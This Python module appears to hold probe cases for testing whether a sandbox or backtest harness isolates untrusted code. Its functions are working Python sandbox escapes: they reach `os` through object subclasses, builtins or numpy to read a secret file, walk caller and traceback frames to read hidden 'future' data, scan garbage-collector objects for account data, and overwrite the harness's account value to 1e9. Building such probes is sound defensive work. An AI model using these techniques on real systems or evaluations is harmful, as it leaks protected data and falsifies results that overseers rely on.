"""Attempts within Python: no Python object is a security boundary."""

from __future__ import annotations

import gc
import sys

TYPE_CHECKING = False
if TYPE_CHECKING:
    from collections.abc import Mapping
    from typing import Any

    Target = dict[str, Any]


def subclasses_walk(target: Target) -> str:
    """Find `os` through the subclasses of `object`, and open the data."""
    each: Any
    for each in ().__class__.__base__.__subclasses__():  # type: ignore[union-attr]
        names = getattr(getattr(each, "__init__", None), "__globals__", {})
        if "listdir" in names:
            return read_with(names, target)
    raise LookupError("no class refers to `os`")


def builtins_import(target: Target) -> str:
    """Reach `__import__` through a builtin function."""
    return read_with(vars(print.__self__.__import__("os")), target)  # type: ignore[attr-defined]


def built_name(target: Target) -> str:
    """Reach `__import__` with attribute names built from parts."""
    under = "_" * 2
    found = getattr(print, f"{under}self{under}")
    return read_with(vars(getattr(found, f"{under}import{under}")("o" + "s")), target)


def format_walk(target: Target) -> str:
    """Read the caller's local variables from its frame in a format string."""
    frame = sys._getframe(1)
    return excerpt(f"{frame.f_locals['future']}")


def frame_walk(target: Target) -> str:
    """Walk the frames of a traceback up to the harness."""
    try:
        raise ValueError
    except ValueError as error:
        frame: Any = error.__traceback__.tb_frame  # type: ignore[union-attr]
    while frame is not None:
        if frame.f_locals.get("future"):
            return excerpt(str(frame.f_locals["future"]))
        frame = frame.f_back
    raise LookupError("no frame holds the future")


def collected_objects(target: Target) -> str:
    """Search all objects of the garbage collector for the data."""
    for each in gc.get_objects():
        if type(each) is dict and isinstance(each.get("nav"), float):
            return f"an account with {each['nav']}"
        if type(each) is list and len(each) == 3 and all(type(one) is float and one > 1e6 for one in each):
            return excerpt(str(each))
    raise LookupError("no object looks like data")


def harness_state(target: Target) -> str:
    """Change the account in the caller's frame."""
    frame = sys._getframe(1)
    account = frame.f_locals["account"]
    if account is None:
        raise LookupError("the frame holds no account")
    account["nav"] = 1e9
    return "the account has 1e9"


def numpy_reader(target: Target) -> str:
    """Read the data with numpy."""
    import numpy

    return excerpt(numpy.fromfile(target["secret"], dtype=numpy.uint8).tobytes().decode())


def numpys_os(target: Target) -> str:
    """Read the data with the `os` module that numpy imported."""
    import numpy

    return read_with(vars(next(each.os for each in vars(numpy).values() if hasattr(each, "os"))), target)


def read_with(names: Mapping[str, Any], target: Target) -> str:
    """Read the data with the functions of `os`."""
    return excerpt(names["read"](names["open"](target["secret"], 0), 100).decode())


def excerpt(text: str) -> str:
    """Return the start of a text.

    Raises:
        LookupError: the text is empty.
    """
    if not text or text == "None":
        raise LookupError("nothing was read")
    return f"read {text.strip()[:40]!r}"


HELPERS = {"excerpt", "read_with"}
# These need the memory of an imported library.
HEAVY = {"numpy_reader", "numpys_os"}
